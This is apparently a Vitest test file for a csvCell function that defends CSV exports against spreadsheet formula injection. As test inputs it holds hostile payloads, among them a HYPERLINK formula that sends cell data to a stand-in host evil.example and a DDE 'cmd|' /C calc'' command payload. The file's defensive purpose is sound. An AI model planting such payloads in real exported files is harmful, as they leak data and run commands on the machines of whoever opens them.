import { describe, expect, it } from 'vitest';
import { csvCell } from './export-csv';

describe('csvCell', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['+1+cmd', "'+1+cmd"],
    ['-1+HYPERLINK("http://evil.example/?x="&B2,"x")', `"'-1+HYPERLINK(""http://evil.example/?x=""&B2,""x"")"`],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['-1e3', "'-1e3"],
    ['-1.5.2', "'-1.5.2"],
    ['\t=1', "'\t=1"],
  ])('keeps a spreadsheet from running %s as a formula', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it.each([
    ['-0.25', '-0.25'],
    ['-12', '-12'],
    [-3.5, '-3.5'],
    [42, '42'],
    ['plain text', 'plain text'],
    [null, ''],
  ])('leaves %s, which is exactly a number or plain text, as it is', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it('quotes commas, quotes and line breaks as RFC 4180 says', () => {
    expect(csvCell('a, "b"\nc')).toBe('"a, ""b""\nc"');
  });
});
